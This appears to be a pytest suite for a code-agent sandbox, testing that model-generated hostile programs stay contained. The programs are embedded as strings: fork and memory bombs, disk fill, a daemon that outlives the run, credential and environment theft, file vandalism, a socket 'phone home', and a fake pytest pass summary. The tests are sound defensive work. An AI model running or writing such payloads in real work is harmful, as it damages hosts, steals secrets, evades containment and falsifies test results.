"""Hostile generated code is contained: the host is unharmed, nothing leaks, nothing survives the run.

Each program is the test module of a run (as a model would write it). The canary file, the credentials file, the
secret variables and the listening socket are the host's; the programs know their paths, as an attacker might.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
import time
from pathlib import Path

import pytest

from burr_codeagent.gates.execution import verdict
from burr_codeagent.models import Severity
from burr_codeagent.sandbox import PytestResult, PytestRun, Sandbox, available, run_pytest, runner
from burr_codeagent.sandbox.cgroups import create_run_cgroup
from burr_codeagent.sandbox.layers import is_root
from burr_codeagent.sandbox.starvation import STRETCH

TIMEOUT = 3.0
SLOW_MACHINE_TIMEOUT = 20.0
CANARY_SECRET = "canary-secret-9f8e7d6c5b4a"
CANARY_AWS = "AKIACANARY0123456789"
CANARY_FILE_TEXT = "canary: do not touch"

LAYERS = [
    pytest.param(
        layer,
        marks=pytest.mark.skipif(not available(layer), reason=f"{layer} isolation is not available here"),
    )
    for layer in ("bwrap", "unshare", "none")
]
NAMESPACED = LAYERS[:2]


class Host:
    """What the attacker targets on the host, and the checks that it survived."""

    def __init__(self, root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.canary = root / "canary.txt"
        self.canary.write_text(CANARY_FILE_TEXT)
        self.doomed = root / "delete-me.txt"
        self.doomed.write_text("still here")
        self.fork_refused = root / "fork-refused"
        self.home = Path(os.environ["HOME"])
        (self.home / ".aws").mkdir()
        self.credentials = self.home / ".aws" / "credentials"
        self.credentials.write_text(
            f"[default]\naws_access_key_id = {CANARY_AWS}\naws_secret_access_key = {CANARY_SECRET}\n"
        )
        monkeypatch.setenv("AWS_ACCESS_KEY_ID", CANARY_AWS)
        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", CANARY_SECRET)
        monkeypatch.setenv("OPENAI_API_KEY", CANARY_SECRET)
        monkeypatch.setenv("MY_SERVICE_TOKEN", CANARY_SECRET)
        monkeypatch.setenv("DB_PASSWORD", CANARY_SECRET)

    def fill(self, source: str) -> str:
        return (
            source.replace("CANARY", str(self.canary))
            .replace("DOOMED", str(self.doomed))
            .replace("CREDENTIALS", str(self.credentials))
            .replace("REFUSED", str(self.fork_refused))
        )

    def assert_unharmed(self, result: PytestResult) -> None:
        assert self.canary.read_text() == CANARY_FILE_TEXT
        assert self.doomed.read_text() == "still here"
        assert self.credentials.read_text().count(CANARY_SECRET) == 1
        everything = result.run.output + result.outcome.model_dump_json() + repr(result.cases)
        assert CANARY_SECRET not in everything
        assert CANARY_AWS not in everything
        assert not result.run.workdir.exists(), "the work dir must be removed"
        assert _leftovers(result) == [], "a process of the run survived it"


def _leftovers(result: PytestResult) -> list[str]:
    """Processes still running from this run (the work dir path appears in their command line or cwd)."""
    marker = result.run.workdir.name
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            cwd = os.readlink(entry / "cwd") if (entry / "cwd").exists() else ""
        except OSError:
            continue
        if marker in cmdline or marker in cwd or "codeagent-daemon-canary" in cmdline:
            found.append(f"{entry.name}: {cmdline[:120]}")
    return found


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Host:
    return Host(tmp_path, monkeypatch)


def run_hostile(
    layer: str, tests: str, host: Host, timeout: float = TIMEOUT
) -> tuple[PytestResult, float, list[str]]:
    """Run ``tests`` in the sandbox. Programs that end by themselves get a long ``timeout``: on a loaded CI machine
    pytest's start-up alone must not turn their verdict into a timeout."""
    start = time.perf_counter()
    result = run_pytest(
        PytestRun(code="", test_code=host.fill(tests), timeout=timeout),
        Sandbox(layer, memory_mb=256),
    )
    elapsed = time.perf_counter() - start
    findings = list(verdict(result, timeout))
    critical = [f"{f.rule}: {f.message}" for f in findings if f.severity is Severity.CRITICAL]
    # A run the machine starves of CPU gets up to STRETCH times its timeout (see sandbox/starvation.py).
    assert elapsed < STRETCH * timeout + 2, f"the run took {elapsed:.1f} s"
    assert critical, "hostile code must never pass"
    host.assert_unharmed(result)
    return result, elapsed, critical


INFINITE_LOOP = "def test_spin():\n    while True:\n        pass\n"
REGEX = "import re\n\ndef test_backtrack():\n    assert re.match(r'(a+)+$', 'a' * 60 + 'b')\n"
IGNORE_SIGTERM = (
    "import signal\n\ndef test_stubborn():\n    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
    "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass\n"
)
MEMORY_BOMB = (
    "def test_hog():\n    hoard = []\n    while True:\n        hoard.append(bytearray(50_000_000))\n"
)
OUTPUT_FLOOD = "import sys\n\ndef test_flood():\n    while True:\n        sys.__stdout__.write('x' * 65536)\n"
SEGFAULT = "import ctypes\n\ndef test_crash():\n    ctypes.string_at(0)\n"
KILL_PARENT = "import os, time\n\ndef test_patricide():\n    os.kill(os.getppid(), 9)\n    time.sleep(60)\n"
KILL_SELF = "import os\n\ndef test_suicide():\n    os.kill(os.getpid(), 9)\n"
EXIT_EARLY = "import os\n\ndef test_fake():\n    print('===== 5 passed in 0.01s =====')\n    os._exit(0)\n"
EXIT_AT_IMPORT = "import os\nprint('5 passed')\nos._exit(0)\n\ndef test_never():\n    assert True\n"
# Bounded in case containment fails: each process forks at most 9 times (512 processes at worst), then sleeps; a
# failed fork is retried, so the run never ends by itself while containment holds.
FORK_BOMB = (
    "import os, time\n\ndef test_bomb():\n    forks = 0\n    while True:\n        try:\n"
    "            if forks < 9:\n                os.fork()\n                forks += 1\n"
    "            else:\n                time.sleep(0.05)\n"
    "        except OSError:\n            try:\n                open('REFUSED', 'a').close()\n"
    "            except OSError:\n                pass\n            time.sleep(0.01)\n"
)
DISK_FILL = (
    "def test_fill():\n    chunk = b'x' * (1 << 20)\n    for i in range(100_000):\n"
    "        with open(f'fill{i}', 'wb') as handle:\n            for _ in range(32):\n                handle.write(chunk)\n"
)
DAEMON = (
    "import os, sys, time\n\ndef test_daemon():\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
    "            os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', 'codeagent-daemon-canary'])\n"
    "        os._exit(0)\n    time.sleep(0.3)\n    assert False, 'daemon started'\n"
)
STEAL_SECRETS = (
    "import os, pathlib\n\ndef test_steal():\n    loot = dict(os.environ)\n"
    "    for path in [os.path.expanduser('~/.aws/credentials'), '/root/.aws/credentials']:\n        try:\n"
    "            loot[path] = pathlib.Path(path).read_text()\n        except OSError as exc:\n            loot[path] = repr(exc)\n"
    "    print(loot)\n    assert False, repr(loot)\n"
)
VANDAL = (
    "import os, pathlib\n\ndef test_vandal():\n    errors = []\n    for action in (lambda: pathlib.Path('CANARY').write_text('pwned'),\n"
    "                   lambda: os.remove('DOOMED'),\n                   lambda: pathlib.Path('CREDENTIALS').write_text('pwned')):\n"
    "        try:\n            action()\n        except OSError as exc:\n            errors.append(repr(exc))\n"
    "    assert not errors, errors\n"
)


@pytest.mark.parametrize("layer", LAYERS)
@pytest.mark.parametrize(
    ("program", "expected"),
    [
        pytest.param(INFINITE_LOOP, "execution.timeout", id="infinite-loop"),
        pytest.param(REGEX, "execution.timeout", id="regex-backtracking"),
        pytest.param(IGNORE_SIGTERM, "execution.timeout", id="ignores-sigterm"),
        pytest.param(MEMORY_BOMB, "execution.memory", id="memory-bomb"),
        pytest.param(SEGFAULT, "execution.crashed", id="segfault"),
        pytest.param(KILL_SELF, "execution.killed", id="kills-itself"),
        pytest.param(EXIT_EARLY, "execution.crashed", id="os-exit-with-fake-summary"),
        pytest.param(EXIT_AT_IMPORT, "execution.c", id="os-exit-at-import"),
        pytest.param(STEAL_SECRETS, "execution.failed", id="reads-credentials"),
    ],
)
def test_hostile_program_is_contained(layer: str, program: str, expected: str, host: Host) -> None:
    timeout = TIMEOUT if expected == "execution.timeout" else SLOW_MACHINE_TIMEOUT
    _, _, critical = run_hostile(layer, program, host, timeout)
    assert any(message.startswith(expected) for message in critical), critical


@pytest.mark.parametrize("layer", LAYERS)
def test_output_flood_is_capped(layer: str, host: Host) -> None:
    result, _, _ = run_hostile(layer, OUTPUT_FLOOD, host, SLOW_MACHINE_TIMEOUT)
    assert result.run.output_truncated
    assert len(result.run.output) <= 8_000


@pytest.mark.parametrize("layer", LAYERS)
def test_killing_the_parent_leaves_the_agent_alive(layer: str, host: Host) -> None:
    _, _, critical = run_hostile(layer, KILL_PARENT, host)
    assert any(m.startswith(("execution.killed", "execution.timeout", "execution.failed")) for m in critical)
    os.kill(os.getpid(), 0)  # still here


@pytest.mark.parametrize("layer", LAYERS)
def test_fork_bomb_is_contained(layer: str, host: Host) -> None:
    if layer == "none" and is_root() and not _cgroups_writable():
        pytest.skip(
            "no writable cgroup here, and RLIMIT_NPROC does not bind root: nothing limits its processes"
        )
    _, _, critical = run_hostile(layer, FORK_BOMB, host)
    assert any(m.startswith("execution.timeout") for m in critical), critical
    if layer == "none":  # the host's files are visible only here
        assert host.fork_refused.exists(), "the process limit never refused a fork"
    assert os.fork is not None and _can_fork()


def _cgroups_writable() -> bool:
    probe = create_run_cgroup(8)
    if probe is not None:
        probe.remove()
    return probe is not None


def _can_fork() -> bool:
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return True


@pytest.mark.parametrize("layer", LAYERS)
def test_disk_fill_is_stopped(layer: str, host: Host) -> None:
    _, _, critical = run_hostile(layer, DISK_FILL, host)
    assert any(m.startswith(("execution.disk", "execution.timeout")) for m in critical), critical


@pytest.mark.parametrize("layer", LAYERS)
def test_double_forked_daemon_does_not_outlive_the_run(layer: str, host: Host) -> None:
    run_hostile(layer, DAEMON, host)  # assert_unharmed checks that no process of the run is left


DAEMON_THEN_HANG = DAEMON.replace("time.sleep(0.3)\n    assert False, 'daemon started'", "time.sleep(60)")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the subreaper fallback is Linux only")
@pytest.mark.parametrize("program", [DAEMON, DAEMON_THEN_HANG], ids=["run-ends", "run-times-out"])
def test_daemon_is_caught_where_no_cgroup_is_writable(
    program: str, host: Host, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        runner, "create_run_cgroup", lambda _limit: None
    )  # as in a container with read-only cgroups
    run_hostile("none", program, host)  # assert_unharmed checks that no process of the run is left


@pytest.mark.parametrize("layer", NAMESPACED)
def test_host_credentials_file_cannot_be_read(layer: str, host: Host) -> None:
    program = "import pathlib\n\ndef test_steal():\n    print(pathlib.Path('CREDENTIALS').read_text())\n"
    result, _, critical = run_hostile(layer, program, host, SLOW_MACHINE_TIMEOUT)
    assert any(m.startswith("execution.failed") for m in critical)
    assert "FileNotFoundError" in result.outcome.output or "PermissionError" in result.outcome.output


@pytest.mark.parametrize("layer", NAMESPACED)
def test_files_outside_the_work_dir_cannot_be_changed(layer: str, host: Host) -> None:
    result, _, critical = run_hostile(layer, VANDAL, host, SLOW_MACHINE_TIMEOUT)
    assert any(m.startswith("execution.failed") for m in critical)
    assert "Error" in result.outcome.output  # the attempts failed with an OSError each


@pytest.mark.parametrize("layer", NAMESPACED)
def test_network_to_host_loopback_is_blocked(layer: str, host: Host) -> None:
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(TIMEOUT + 3)
    port = listener.getsockname()[1]
    accepted: list[object] = []

    def accept() -> None:
        try:
            accepted.append(listener.accept())
        except OSError:
            pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    program = (
        "import socket\n\ndef test_phone_home():\n"
        f"    with socket.create_connection(('127.0.0.1', {port}), timeout=1) as conn:\n"
        "        conn.sendall(b'stolen')\n"
    )
    try:
        result, _, critical = run_hostile(layer, program, host, SLOW_MACHINE_TIMEOUT)
    finally:
        listener.close()
        thread.join(1)
    assert not accepted, "the sandbox reached a host service"
    assert any(m.startswith("execution.failed") for m in critical)
    assert "ConnectionRefusedError" in result.outcome.output or "OSError" in result.outcome.output
